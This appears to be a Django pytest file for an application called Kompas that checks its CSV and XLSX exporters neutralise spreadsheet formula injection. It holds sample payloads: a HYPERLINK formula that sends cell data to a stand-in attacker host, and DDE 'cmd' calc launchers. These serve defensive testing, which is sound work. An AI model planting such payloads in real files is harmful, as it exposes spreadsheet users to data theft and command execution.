"""Finding 4 of issue 11: no CSV or XLSX that Kompas hands out starts a cell with a formula.
Every exporter gets a value that a spreadsheet would run (a user name in the audit trail,
a respondent's free-text answer, a label typed by an analyst) and must write it as text."""

from __future__ import annotations

import csv
import io
import re
from types import SimpleNamespace

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from kompas.accounts.constants import Rol
from kompas.audit.models import Actie
from kompas.audit.services import audit_log_create
from kompas.core.schrijven import SYSTEEM
from kompas.core.tabular import FORMULE_BEGIN, csv_writer, lees_csv, veilige_cel
from tests.factories import OrganisatieFactory

HYPERLINK = '=HYPERLINK("http://aanvaller.example/?d="&A1;"klik")'
CMD = "+cmd|' /C calc'!A0"
FORMULES = [HYPERLINK, CMD, "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _gevaarlijk(cellen) -> list:
    """Text cells a spreadsheet would treat as a formula (a plain negative number is fine)."""
    return [
        c
        for c in cellen
        if isinstance(c, str) and c.startswith(FORMULE_BEGIN) and not re.fullmatch(r"-\d+([.,]\d+)?", c)
    ]


def _csv_cellen(tekst: str) -> list[str]:
    return [c for rij in csv.reader(io.StringIO(tekst), delimiter=";") for c in rij]


def _xlsx_cellen(inhoud: bytes) -> list:
    wb = load_workbook(io.BytesIO(inhoud))
    cellen = []
    for ws in wb.worksheets:
        for rij in ws.iter_rows():
            for c in rij:
                assert c.data_type != "f", f"formula in {ws.title}!{c.coordinate}: {c.value}"
                cellen.append(c.value)
    return cellen


def test_the_guard_quotes_every_formula_start_and_leaves_the_rest():
    for f in FORMULES:
        assert veilige_cel(f) == "'" + f
    for gewoon in ("Goede samenwerking", "", "2021-06-01", "'al geciteerd", "a=b", "<5", "x", "–"):
        assert veilige_cel(gewoon) == gewoon
    assert veilige_cel(-3) == -3 and veilige_cel(-2.5) == -2.5 and veilige_cel(None) is None
    buf = io.StringIO()
    csv_writer(buf).writerows([[f, -1] for f in FORMULES])
    assert _gevaarlijk(_csv_cellen(buf.getvalue())) == []
    # and an exported file reads back as it was
    assert [r.waarden["a"] for r in lees_csv("a;b\n" + buf.getvalue().split("\r\n", 1)[0] + "\n").rijen] == [HYPERLINK]


@pytest.mark.django_db
def test_audit_csv_writes_a_formula_user_name_as_text(make_member, login):
    po = make_member(Rol.PRIVACY_OFFICER)
    org = po.lidmaatschappen.get().organisatie
    # the name a user gives themselves ends up first in the trail's user column
    aanvaller = make_member(Rol.MEDEWERKER, organisatie=org, first_name=HYPERLINK, last_name="", username="=cmd")
    audit_log_create(actie=Actie.VIEW, user=aanvaller, organisatie=org, object_repr=CMD, doel="@behandeling")
    response = login(po).get(reverse("audit:export"))
    cellen = _csv_cellen(b"".join(response.streaming_content).decode())
    assert _gevaarlijk(cellen) == []
    assert any(c.startswith("'" + HYPERLINK) for c in cellen) and "'" + CMD in cellen and "'@behandeling" in cellen


@pytest.fixture
def monitor_met_formules(tmp_path):
    """A wave with respondents' free text (open answer and 'anders') that are formulas,
    imported as in the finding, an option label and a code category label that are too."""
    from kompas.monitor.models import Codecategorie, Codering, Inzending, Meting, Optie, Vragenlijst
    from kompas.regio.services import referentiedata_laden

    referentiedata_laden(actor=SYSTEEM)
    m = Meting.objects.create(code="m2021", naam="Monitor 2021", jaar=2021)
    m.vragenlijsten.set(Vragenlijst.objects.filter(code__in=["gemeente-2021"]))
    kop = [
        "respons_id",
        "organisatie",
        "gestart_op",
        "ingediend_op",
        "volledig",
        "B1_BELEID",
        "B1_BELEID_anders",
        "HELPEND",
    ]
    rijen = [
        [f"r{i}", code, "2021-06-01T10:00:00", "2021-06-01T10:30:00", "ja", "anders", CMD, HYPERLINK]
        for i, code in enumerate(["GM0363", "GM0405", "GM0388", "GM0344", "GM0518", "GM0599"])
    ]
    buf = io.StringIO()
    csv.writer(buf, delimiter=";").writerows([kop, *rijen])  # the attacker's file, not Kompas's
    pad = tmp_path / "aanval.csv"
    pad.write_text(buf.getvalue(), encoding="utf-8")
    call_command("monitor", "importeer", "m2021", str(pad))
    assert Inzending.objects.filter(meting=m).count() == 6
    Optie.objects.filter(vraag__vragenlijst__code="gemeente-2021", vraag__code="B1_BELEID", code="anders").update(
        label="=1+1"
    )
    cat = Codecategorie.objects.create(meting=m, vraag_code="HELPEND", code="x", label="@SUM(1)")
    for i in Inzending.objects.filter(meting=m):
        Codering.objects.create(inzending=i, vraag_code="HELPEND").categorieen.set([cat])
    return m


@pytest.mark.django_db
def test_monitor_exports_write_free_text_answers_as_text(monitor_met_formules, tmp_path):
    for extra in ([], ["--opgeschoond"]):
        uit = tmp_path / f"export{len(extra)}.csv"
        call_command("monitor", "exporteer", "m2021", "gemeente-2021", *extra, "--uit", str(uit))
        cellen = _csv_cellen(uit.read_text(encoding="utf-8-sig"))
        assert _gevaarlijk(cellen) == []
        assert "'" + HYPERLINK in cellen and "'" + CMD in cellen


@pytest.mark.django_db
def test_report_xlsx_open_data_csv_and_gemeente_csv_write_labels_as_text(monitor_met_formules):
    from kompas.monitor import rapport
    from kompas.monitor.selectors import gemeente_csv

    xlsx = _xlsx_cellen(rapport.xlsx(monitor_met_formules))
    assert _gevaarlijk(xlsx) == [] and "'=1+1" in xlsx and "'@SUM(1)" in xlsx
    open_data = _csv_cellen(rapport.csv_open(monitor_met_formules).decode())
    assert _gevaarlijk(open_data) == []
    # the gemeente's account, made after the import: saving it links its submission by the key
    amsterdam = OrganisatieFactory(cbs_code="GM0363", naam="Gemeente Amsterdam")
    actor = SimpleNamespace(organisatie=amsterdam)
    tekst, _m = gemeente_csv(actor, "m2021")
    cellen = _csv_cellen(tekst)
    assert _gevaarlijk(cellen) == [] and "'=1+1" in cellen


def test_meldroute_figure_exports_write_labels_as_text():
    from kompas.meldroute.selectors import Tabel
    from kompas.meldroute.views import _export

    data = {"totaal": 12, "doorlooptijd": None, "tabellen": [Tabel("=titel", "Sector", [(HYPERLINK, 7), ("-min", 5)])]}
    body = b"".join([_export(data, "csv").content])
    cellen = _csv_cellen(body.decode("utf-8-sig"))
    assert _gevaarlijk(cellen) == [] and "'" + HYPERLINK in cellen
    xlsx = _xlsx_cellen(_export(data, "xlsx").content)
    assert _gevaarlijk(xlsx) == [] and "'=titel" in xlsx and "'-min" in xlsx


@pytest.mark.django_db
def test_synthetic_export_writes_free_text_as_text(monkeypatch):
    from kompas.monitor import synthetisch
    from kompas.monitor.models import Vragenlijst
    from kompas.regio.services import referentiedata_laden

    referentiedata_laden(actor=SYSTEEM)
    monkeypatch.setattr(synthetisch, "OPEN_TEKSTEN", {})
    monkeypatch.setattr(synthetisch, "ANDERS_TEKSTEN", [CMD])
    lijst = Vragenlijst.objects.get(code="gemeente-2021")
    inhoud = synthetisch.export_maken(lijst, [f"GM0{i:03d}" for i in range(300, 340)], respons=1.0, problemen=False)
    cellen = _csv_cellen(inhoud.decode("utf-8"))
    assert _gevaarlijk(cellen) == [] and "'" + CMD in cellen
